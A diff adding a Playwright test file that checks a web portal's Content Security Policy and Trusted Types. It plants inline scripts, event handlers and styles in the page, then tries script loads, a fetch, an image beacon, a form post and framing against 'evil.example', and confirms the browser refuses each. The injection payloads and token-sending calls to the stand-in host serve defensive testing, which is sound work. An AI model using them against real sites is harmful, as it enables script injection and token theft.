@@ -1,0 +1,164 @@
+import { expect, test, type Page } from '@playwright/test';
+import { watchPolicy, type Watch } from './support/watchPolicy';
+
+/** The document, as an attacker who can write into it would have it. */
+async function openTampered(page: Page, tamper: { html: string; without?: 'header' | 'meta' }): Promise<Watch> {
+  const watch = await watchPolicy(page);
+  await page.route('**/mediareact/request-procedure', async (route) => {
+    const answer = await route.fetch();
+    const headers = answer.headers();
+    if (tamper.without === 'header') delete headers['content-security-policy'];
+    const html = (await answer.text()).replace('</body>', `${tamper.html}</body>`);
+    const body =
+      tamper.without === 'meta' ? html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '') : html;
+    await route.fulfill({ status: 200, headers, body });
+  });
+  await page.goto('/mediareact/request-procedure', { waitUntil: 'networkidle' });
+  return watch;
+}
+
+const planted = (page: Page): Promise<unknown> =>
+  page.evaluate(() => (window as unknown as { planted?: unknown }).planted);
+
+for (const without of [undefined, 'header', 'meta'] as const) {
+  const how = without === undefined ? '' : ` even when the document comes without its ${without}`;
+
+  test(`a planted inline script is refused${how}`, async ({ page }) => {
+    const watch = await openTampered(page, {
+      html: '<script>window.planted = 1</script>',
+      ...(without && { without }),
+    });
+    expect(await planted(page)).toBeUndefined();
+    expect(watch.refused.join()).toContain('script-src-elem: inline');
+  });
+
+  test(`a planted event handler is refused${how}`, async ({ page }) => {
+    const html = '<img src="/mediareact/none.png" alt="" onerror="window.planted = 1">';
+    const watch = await openTampered(page, { html, ...(without && { without }) });
+    expect(await planted(page)).toBeUndefined();
+    expect(watch.refused.join()).toContain('script-src-attr: inline');
+  });
+
+  test(`a planted HTML string is refused${how}`, async ({ page }) => {
+    const watch = await openTampered(page, { html: '', ...(without && { without }) });
+    const thrown = await page.evaluate(() => {
+      try {
+        document.body.innerHTML = '<b>planted</b>';
+        return 'nothing';
+      } catch (error) {
+        return String(error);
+      }
+    });
+    expect(thrown).toContain('TypeError');
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await expect.poll(() => watch.refused.join()).toContain('require-trusted-types-for: trusted-types-sink');
+  });
+}
+
+test('a planted style block is refused', async ({ page }) => {
+  const watch = await openTampered(page, { html: '<style>body { display: none }</style>' });
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  expect(watch.refused.join()).toContain('style-src-elem: inline');
+});
+
+/** What a script that got in could still try, and what stops it. */
+const attempts: { name: string; directive: string; attempt: () => void }[] = [
+  {
+    name: 'code made of a string',
+    directive: 'require-trusted-types-for',
+    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- exactly this must be refused
+    attempt: () => void setTimeout('window.planted = 1'),
+  },
+  {
+    name: 'a script of another origin',
+    directive: 'require-trusted-types-for',
+    attempt: () => {
+      document.createElement('script').src = 'https://evil.example/x.js';
+    },
+  },
+  {
+    name: "an answer of the portal's own API as a script",
+    directive: 'require-trusted-types-for',
+    attempt: () => {
+      document.createElement('script').src = '/mediareact/api/org/types';
+    },
+  },
+  {
+    name: 'a second policy for strings',
+    directive: 'trusted-types',
+    attempt: () => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy: (name: string, rules: object) => void };
+      };
+      trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
+    },
+  },
+  {
+    name: 'a call to another origin',
+    directive: 'connect-src',
+    attempt: () => void fetch('https://evil.example/?token=1').catch(() => undefined),
+  },
+  {
+    name: 'a picture of another origin',
+    directive: 'img-src',
+    attempt: () => {
+      new Image().src = 'https://evil.example/?token=1';
+    },
+  },
+  {
+    name: 'a form to another origin',
+    directive: 'form-action',
+    attempt: () => {
+      const form = document.createElement('form');
+      form.action = 'https://evil.example/';
+      document.body.append(form);
+      form.submit();
+    },
+  },
+  {
+    name: 'another base for links',
+    directive: 'base-uri',
+    attempt: () => {
+      const base = document.createElement('base');
+      base.href = 'https://evil.example/';
+      document.head.append(base);
+    },
+  },
+  {
+    name: 'an embedded page',
+    directive: 'frame-src',
+    attempt: () => {
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.example/';
+      document.body.append(frame);
+    },
+  },
+  {
+    name: 'a style attribute',
+    directive: 'style-src-attr',
+    attempt: () => {
+      document.body.setAttribute('style', 'display: none');
+    },
+  },
+];
+
+test('nothing that a script which got in could try is let through', async ({ page }) => {
+  const watch = await openTampered(page, { html: '' });
+  for (const { name, directive, attempt } of attempts) {
+    await test.step(name, async () => {
+      watch.refused.length = 0;
+      await page.evaluate(attempt).catch(() => undefined);
+      await expect.poll(() => watch.refused.some((refusal) => refusal.startsWith(`${directive}:`)), name).toBe(true);
+    });
+  }
+  expect(await planted(page)).toBeUndefined();
+  expect(page.url()).toContain('/mediareact/request-procedure');
+});
+
+test('another site cannot show the portal in a frame', async ({ page, baseURL }) => {
+  await page.route('http://evil.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL ?? ''}/mediareact/login"></iframe>` }),
+  );
+  await page.goto('http://evil.example/', { waitUntil: 'networkidle' });
+  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
+});
